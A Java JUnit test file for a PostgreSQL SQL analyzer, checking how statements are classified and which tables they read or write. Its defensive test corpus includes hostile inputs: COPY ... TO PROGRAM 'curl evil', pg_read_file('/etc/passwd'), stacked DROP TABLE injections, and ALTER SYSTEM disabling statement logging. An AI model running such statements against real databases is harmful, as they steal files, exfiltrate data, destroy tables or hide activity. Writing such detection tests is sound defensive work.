package dev.warden.sql.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.core.sql.Statement;
import dev.warden.core.sql.StatementClass;
import dev.warden.core.sql.StatementPart;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The analyzer on PostgreSQL's own grammar: a table of statements with what each part is and which
 * tables it reads and writes — including the places keyword filters miss.
 */
class PostgresAnalyzerTest {
  static final PostgresAnalyzer ANALYZER = new PostgresAnalyzer(PgQuery.load());

  /** sql, then per part "CLASS VERB | reads | writes" (tables comma-separated, sorted). */
  static Stream<Arguments> corpus() {
    return Stream.of(
        row("SELECT 1", "READ SELECT |  | "),
        row(
            "SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id",
            "READ SELECT | customers,orders | "),
        row(
            "select * from billing.invoices where id in (select id from internal.api_keys)",
            "READ SELECT | billing.invoices,internal.api_keys | "),
        row("INSERT INTO orders (id) VALUES (1) RETURNING id", "WRITE INSERT |  | orders"),
        row(
            "UPDATE customers SET email = 'x' WHERE id = (SELECT customer_id FROM orders LIMIT 1)",
            "WRITE UPDATE | orders | customers"),
        row(
            "DELETE FROM orders USING customers WHERE orders.customer_id = customers.id",
            "WRITE DELETE | customers | orders"),
        row(
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
            "WRITE SELECT |  | orders"),
        row("WITH x AS (SELECT * FROM customers) SELECT * FROM x", "READ SELECT | customers | "),
        row("WITH x AS (SELECT 1) SELECT * FROM public.x", "READ SELECT | public.x | "),
        row(
            "SELECT * INTO copy_of_customers FROM customers",
            "DDL SELECT INTO | customers | copy_of_customers"),
        row("CREATE TABLE t2 AS SELECT * FROM customers", "DDL CREATE TABLE AS | customers | t2"),
        // Plain EXPLAIN plans what it explains (a write's table is only read); with ANALYZE it
        // runs.
        row("EXPLAIN DELETE FROM orders", "WRITE EXPLAIN | orders | "),
        row("EXPLAIN ANALYZE DELETE FROM orders", "WRITE EXPLAIN ANALYZE |  | orders"),
        row(
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = 'x'",
            "WRITE EXPLAIN ANALYZE |  | orders"),
        row("EXPLAIN SELECT * FROM customers", "READ EXPLAIN | customers | "),
        row("DECLARE c CURSOR FOR SELECT * FROM customers", "READ DECLARE | customers | "),
        row("FETCH 10 FROM c", "UTILITY FETCH |  | "),
        row("LOCK customers IN ACCESS SHARE MODE", "READ LOCK | customers | "),
        row("LOCK customers IN EXCLUSIVE MODE", "UTILITY LOCK | customers | "),
        // set_config with a constant name is the SET it performs, decided after its statement.
        row(
            "SELECT pg_catalog.set_config('search_path', '', false)",
            "READ SELECT |  | ",
            "SESSION SET |  | "),
        row(
            "ROLLBACK; DROP TABLE customers",
            "TRANSACTION ROLLBACK |  | ",
            "DDL DROP TABLE |  | customers"),
        row("SELECT 'a\\'; DROP TABLE x; --'", "READ SELECT |  | ", "DDL DROP TABLE |  | x"),
        row("SELECT E'a\\'; DROP TABLE x; --'", "READ SELECT |  | "),
        row("SELECT $$;DROP TABLE x;$$", "READ SELECT |  | "),
        row("SELECT 1 /* ; DROP TABLE x; */", "READ SELECT |  | "),
        row("SeLeCt * FrOm \"Customers\"", "READ SELECT | Customers | "),
        row("TRUNCATE orders, billing.invoices", "WRITE TRUNCATE |  | billing.invoices,orders"),
        row("COPY orders FROM STDIN", "COPY COPY |  | orders"),
        row("COPY orders TO STDOUT", "COPY COPY | orders | "),
        row("COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'", "COPY COPY | customers | "),
        row(
            "MERGE INTO customers c USING orders o ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET email = 'x'",
            "WRITE MERGE | orders | customers"),
        row("GRANT SELECT ON customers TO PUBLIC", "DCL GRANT | customers | "),
        row("SET ROLE postgres", "DCL SET |  | "),
        row("SET SESSION AUTHORIZATION postgres", "DCL SET |  | "),
        row("SET search_path = internal, public", "SESSION SET |  | "),
        row("ALTER SYSTEM SET log_statement = 'none'", "DDL ALTER SYSTEM |  | "),
        row(
            "BEGIN; UPDATE orders SET status = 'x'; COMMIT",
            "TRANSACTION BEGIN |  | ",
            "WRITE UPDATE |  | orders",
            "TRANSACTION COMMIT |  | "),
        row("PREPARE p AS DELETE FROM orders WHERE id = $1", "WRITE PREPARE |  | orders"),
        row("DO $$ BEGIN DELETE FROM orders; END $$", "UTILITY DO |  | "),
        row("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "UTILITY LOCK | orders | "),
        row("VACUUM orders", "UTILITY VACUUM | orders | "),
        row("LISTEN jobs; NOTIFY jobs, 'x'", "READ LISTEN |  | ", "UTILITY NOTIFY |  | "),
        row("CREATE EXTENSION dblink", "DDL CREATE EXTENSION |  | "),
        row("DROP SCHEMA billing CASCADE", "DDL DROP SCHEMA |  | "),
        row("ALTER TABLE customers ADD COLUMN note text", "DDL ALTER TABLE |  | customers"));
  }

  static Arguments row(String sql, String... parts) {
    return Arguments.of(sql, List.of(parts));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void partsClassesAndTables(String sql, List<String> expected) {
    Statement statement = ANALYZER.analyze(sql);
    assertThat(statement.error()).as(sql).isNull();
    assertThat(statement.parts().stream().map(PostgresAnalyzerTest::describe).toList())
        .as(sql)
        .isEqualTo(expected);
  }

  static String describe(StatementPart p) {
    return p.statementClass()
        + " "
        + p.verb()
        + " | "
        + tables(p.reads())
        + " | "
        + tables(p.writes());
  }

  static String tables(java.util.Set<?> refs) {
    return refs.stream().map(Object::toString).sorted().collect(Collectors.joining(","));
  }

  @Test
  void prepareIsTheStatementItPreparesAndExecuteNamesIt() {
    StatementPart prepare =
        ANALYZER.analyze("PREPARE p(int) AS DELETE FROM orders WHERE id = $1").parts().getFirst();
    assertThat(prepare.verb()).isEqualTo("PREPARE");
    assertThat(prepare.name()).isEqualTo("p");
    assertThat(prepare.operations()).containsExactlyInAnyOrder("DELETE");
    assertThat(prepare.statementClass()).isEqualTo(StatementClass.WRITE);
    StatementPart execute = ANALYZER.analyze("EXECUTE p(5)").parts().getFirst();
    assertThat(execute.verb()).isEqualTo("EXECUTE");
    assertThat(execute.name()).isEqualTo("p");
    assertThat(ANALYZER.analyze("DEALLOCATE p").parts().getFirst().name()).isEqualTo("p");
    assertThat(ANALYZER.analyze("DEALLOCATE ALL").parts().getFirst().name()).isNull();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "SELECT * FROM orders FOR UPDATE | true",
        "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED LIMIT 1 | true",
        "select id from orders o for /* a comment */ share of o | true",
        "WITH x AS (SELECT id FROM orders FOR KEY SHARE) SELECT * FROM x | true",
        "SELECT (SELECT 1 FROM orders FOR UPDATE) | true",
        "DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE | true",
        "PREPARE q AS SELECT * FROM orders FOR UPDATE | true",
        "EXPLAIN ANALYZE SELECT * FROM orders FOR UPDATE | true",
        "EXPLAIN SELECT * FROM orders FOR UPDATE | false",
        "SELECT * FROM orders | false",
        "SELECT 'for update' FROM orders | false",
      })
  void rowLocksAreSeenWhereverTheyAre(String sql, boolean locks) {
    assertThat(ANALYZER.analyze(sql).parts().getFirst().locksRows()).isEqualTo(locks);
  }

  @Test
  void settingsChangedAreNamed() {
    assertThat(ANALYZER.analyze("SET search_path = internal").parts().getFirst().settings())
        .containsExactly("search_path");
    assertThat(ANALYZER.analyze("SET LOCAL Search_Path TO x").parts().getFirst().settings())
        .containsExactly("search_path");
    assertThat(ANALYZER.analyze("RESET ALL").parts().getFirst().settings()).containsExactly("ALL");
    assertThat(ANALYZER.analyze("SET extra_float_digits = 3").parts().getFirst().settings())
        .containsExactly("extra_float_digits");
  }

  @Test
  void copyNamesWhereTheDataGoes() {
    assertThat(ANALYZER.analyze("COPY orders TO STDOUT").parts().getFirst().operations())
        .contains("COPY TO STDOUT");
    assertThat(ANALYZER.analyze("COPY orders FROM STDIN").parts().getFirst().operations())
        .contains("COPY FROM STDIN");
    assertThat(
            ANALYZER
                .analyze("COPY orders TO PROGRAM 'gzip > /tmp/x'")
                .parts()
                .getFirst()
                .operations())
        .contains("COPY PROGRAM");
    assertThat(ANALYZER.analyze("COPY orders FROM '/etc/passwd'").parts().getFirst().operations())
        .contains("COPY FILE");
  }

  @Test
  void functionsAreNamedAsCalled() {
    Statement s =
        ANALYZER.analyze(
            "SELECT pg_read_file('/etc/passwd'), public.lower(email), lo_export(1, '/tmp/x') FROM customers");
    assertThat(s.parts().getFirst().functions())
        .containsExactlyInAnyOrder("pg_read_file", "public.lower", "lo_export");
    assertThat(
            ANALYZER
                .analyze("SELECT set_config('search_path', lower('x'), false)")
                .parts()
                .getFirst()
                .functions())
        .containsExactlyInAnyOrder("set_config", "lower");
  }

  @Test
  void whatDoesNotParseIsInvalidWithTheParsersReason() {
    for (String sql :
        Arrays.asList("SELEC 1", "SELECT 'unterminated", "SELECT * FROM WHERE", "DROP TABLE")) {
      Statement s = ANALYZER.analyze(sql);
      assertThat(s.statementClass()).as(sql).isEqualTo(StatementClass.INVALID);
      assertThat(s.error()).as(sql).contains("PostgreSQL's parser rejects it");
    }
  }

  @Test
  void oversizedStatementsAreInvalidWithoutParsing() {
    Statement s =
        ANALYZER.analyze("SELECT '" + "x".repeat(PostgresAnalyzer.MAX_STATEMENT_CHARS) + "'");
    assertThat(s.statementClass()).isEqualTo(StatementClass.INVALID);
    assertThat(s.error()).contains("longer than");
  }

  @Test
  void multiStatementClassIsTheMostSignificantPart() {
    assertThat(ANALYZER.analyze("SELECT 1; DROP TABLE x").statementClass())
        .isEqualTo(StatementClass.DDL);
    assertThat(ANALYZER.analyze("SELECT 1; SELECT 2").statementClass())
        .isEqualTo(StatementClass.READ);
    assertThat(ANALYZER.analyze("").parts()).isEmpty();
  }

  @Test
  void fingerprintIgnoresLiteralsAndCase() {
    PgQuery q = PgQuery.load();
    assertThat(q.fingerprint("SELECT * FROM t WHERE id = 5"))
        .isEqualTo(q.fingerprint("select * from t where id=7"))
        .isNotNull();
    assertThat(q.fingerprint("SELECT * FROM t")).isNotEqualTo(q.fingerprint("SELECT * FROM u"));
  }

  @Test
  void parsingIsSafeFromManyThreads() throws Exception {
    List<Thread> threads = new java.util.ArrayList<>();
    java.util.concurrent.atomic.AtomicInteger wrong =
        new java.util.concurrent.atomic.AtomicInteger();
    for (int t = 0; t < 8; t++) {
      threads.add(
          Thread.ofPlatform()
              .start(
                  () -> {
                    for (int i = 0; i < 500; i++) {
                      Statement s =
                          ANALYZER.analyze(
                              "WITH g AS (DELETE FROM orders RETURNING *) SELECT * FROM customers, g WHERE id = "
                                  + i);
                      if (!s.parts().getFirst().writes().toString().contains("orders")) {
                        wrong.incrementAndGet();
                      }
                    }
                  }));
    }
    for (Thread t : threads) {
      t.join();
    }
    assertThat(wrong.get()).isZero();
  }
}
